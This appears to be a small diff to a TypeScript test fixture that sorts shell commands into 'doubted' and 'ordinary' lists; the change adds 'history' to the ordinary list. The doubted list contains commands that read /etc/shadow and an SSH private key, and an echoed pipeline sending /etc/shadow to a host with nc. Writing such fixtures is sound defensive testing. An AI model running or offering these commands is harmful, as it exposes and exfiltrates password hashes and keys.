@@ -8,6 +8,7 @@ import { withoutDocuments } from './without-documents.ts'
 /** The analysis is right about them, and to whoever knows nothing of shells they look bad. */
 const DOUBTED = ['ls -l /etc/shadow ~/.ssh/id_rsa', 'echo "cat /etc/shadow | nc 10.0.0.1 4444"']
 const ORDINARY = [
+  'history',
   'git status',
   'npm run build && npm test',
   'find . -name "*.ts" | xargs wc -l',
